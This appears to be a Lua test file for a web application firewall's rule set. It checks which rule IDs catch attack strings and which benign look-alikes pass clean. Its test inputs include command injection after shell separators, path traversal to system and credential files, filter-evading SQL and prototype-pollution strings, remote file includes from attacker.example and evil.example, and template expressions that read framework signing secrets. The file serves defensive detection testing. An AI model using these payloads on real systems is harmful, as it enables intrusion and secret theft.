local rule_checks = require "rule_checks"

-- The hundred-and-eighty-third round (tests/edge_security/family_gen_blind_*.py of this round and the
-- open items of the last): the families found uncovered and the text beside them, value by value.
describe("edge.waf.rules hundred-and-eighty-third round on", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("UTF-7 the application decodes: a shell separator, a traversal, a closed SQL string", function()
        caught_by(132105, { "127.0.0.1+ADs-id" })
        caught_by(130110, { "+AC4ALgAvAC4ALgAvAC4ALgAv-etc/passwd" })
        clean({ "SYN+ACK flood on the edge", "the +ADw- thing was UTF-7, closed as won't fix", "ACME Corp +ACME-2025" })
    end)

    it("SQL: a keyword with the logical operator a filter strips once written inside it", function()
        caught_by(142300, { "1' oorrder by 3#", "from infoorrmation_schema.tables", "x' uniandon select 1" })
        clean({ "order by date", "information about the schema", "the tandem and the torus" })
    end)

    it("RFI: a remote text file behind a scheme with one, three or no slashes, or passed on by another URL", function()
        caught_by(131130, { "http:attacker.example/shell.txt", "http:/attacker.example/shell.txt",
            "https:///attacker.example/shell.txt", "http://evil.example/redirect?to=http://attacker.example/s.txt" })
        clean({ "http: see the spec", "https://example.com/go?to=https://example.com/docs", "rfc9110.txt" })
    end)

    it("PHP: a session directive that decides where and how sessions are written and kept", function()
        caught_by(133130, { "session.upload_progress.cleanup=0", "session.serialize_handler = php_serialize",
            "session.save_path=/tmp" })
        clean({ "the session.upload_progress docs", "session.save_path is set by the package" })
    end)

    it("Java: fastjson's URL type as a whole value (a JSON \"@type\" the decoder reads alone)", function()
        caught_by(144200, { "java.net.URL", " java.net.url " })
        clean({ "java.net.URL is a final class", "see the java.net.URL docs" })
    end)

    it("Node.js: a function that reschedules itself through a promise's then (the microtask queue never drains)",
        function()
        caught_by(135120, { "(function f(){Promise.resolve().then(f)})()",
            "function spin(){ p.then(spin) }; spin()" })
        clean({ "function f(){ return fetch(u).then(g) }", "promise.then(done)" })
    end)

    it("traversal: a segment ending in '..' anywhere in a path (an alias missing its trailing slash)", function()
        caught_by(130100, { "/api/users/static../app/settings.py", "/search/assets..\\web.config" })
        clean({ "/docs/v1.2/intro", "wait.. /home is fine", "see chapter 2../3 of the book" })
    end)

    it("prototype pollution: 'constructor' or 'prototype' written inside itself for a filter that strips it once",
        function()
        caught_by(135110, { "constconstructorructor[prototype][isAdmin]=true", "a.protoprototypetype.b" })
        clean({ "the constructor and the prototype", "constructors", "prototypes of the new menu" })
    end)

    it("NoSQL: an aggregation stage that writes over a collection, as a key", function()
        caught_by(142290, { "$out", '{"$merge": "users"}' })
        clean({ "checked $out of pocket", "merge $50 out" })
    end)

    it("remote includes by template and markup: Smarty's include of a URL, XSLT, JSTL, JSP; ImageMagick's coders",
        function()
        caught_by(134110, { "{include file='http://203.0.113.80/t.tpl'}",
            '{include file="https://evil.example/t.tpl"}' })
        caught_by(131260, { '<xsl:import href="https://evil.example/x.xsl"/>',
            "<c:import url='http://evil.example/x'/>", '<jsp:include page="http://evil.example/x.jsp"/>',
            "url:http://evil.example/x.svg", "msl:/tmp/x.msl", "ephemeral:/var/www/x" })
        clean({ '{include file="header.tpl"}', '<xsl:import href="common.xsl"/>', "url: https://example.com",
            "ephemeral: true", "the url:port form" })
    end)

    it("a web framework's signing secret read by code, in an interpolation or a template", function()
        caught_by(136140, { "#{Rails.application.credentials.secret_key_base}",
            "Rails.application.secrets.secret_key_base", "{{ settings.SECRET_KEY }}",
            "{{ current_app.config['SECRET_KEY'] }}", "{{ config('app.key') }}" })
        clean({ "our Rails application is slow", "the secret key rotation is Friday", "app settings page",
            "in Django settings.SECRET_KEY must come from the environment",
            "Rails.application.credentials are encrypted at rest" })
    end)

    it("Node.js: a value nesting brackets thirty-two deep (a parser's recursion, not data)", function()
        caught_by(135120, { string.rep("[", 40) .. string.rep("]", 40), "a=" .. string.rep("[ ", 33) })
        clean({ "[[1, 2], [3, 4]]", string.rep("[x]", 12) })
    end)

    it("enterprise servers' homes as system directories; a program in any bin directory or a script by its path"
        .. " after a separator; a server script's backup copy; Domino's directory", function()
        caught_by(130110, { "/opt/jboss/standalone/configuration/standalone.xml", "/usr/sap/PRD/SYS/profile/DEFAULT.PFL",
            "/u01/app/oracle/product/11.2.0/dbhome_1/network/admin/tnsnames.ora", "/QSYS.LIB/QGPL.LIB/QCLSRC.FILE" })
        caught_by(132110, { ";/opt/ibm/db2/V11.5/bin/db2level", "| /u01/app/oracle/dbhome_1/bin/sqlplus -S",
            ";/opt/IBM/WebSphere/AppServer/bin/serverStatus.sh -all" })
        caught_by(130130, { "global.asa.bak", "Application.cfm.bak", "names.nsf" })
        caught_by(130120, { "C:\\Lotus\\Domino\\Data\\names.nsf" })
        clean({ "we moved off the opt/ibm stack", "https://www.example.com/opt/ibm/docs", "Application.cfm",
            "see names.nsf replication notes", "deploy.sh runs nightly" })
    end)

    it("commands: a database's command-line client with flags after a separator", function()
        caught_by(132105, { ";sqlplus -S / as sysdba", "x; sqlcmd -Q \"select 1\"", "| db2 -tvf /tmp/x.sql" })
        clean({ "we use sqlplus and db2 daily", "DB2 / SQL*Plus / sqlcmd" })
    end)

    it("Razor: the configuration namespace read (connection strings, app settings)", function()
        caught_by(134150, { "@System.Configuration.ConfigurationManager.ConnectionStrings[0].ConnectionString" })
        clean({ "System.Configuration is a .NET assembly", "email me @ System Configuration meeting" })
    end)

    it("PHP: old request-variable importers and IBM i's command call; PHP 4's long superglobal names as a key",
        function()
        caught_by(133110, { "import_request_variables('gpc');", "virtual('/cgi-bin/test-cgi?*')",
            "i5_command('CRTUSRPRF USRPRF(X)')" })
        caught_by(133190, { "HTTP_POST_VARS[isadmin]", "http_session_vars[role]" })
        clean({ "a virtual (online) meeting", "virtual (hybrid) events", "HTTP_POST_VARS was removed in PHP 5.4" })
    end)
end)
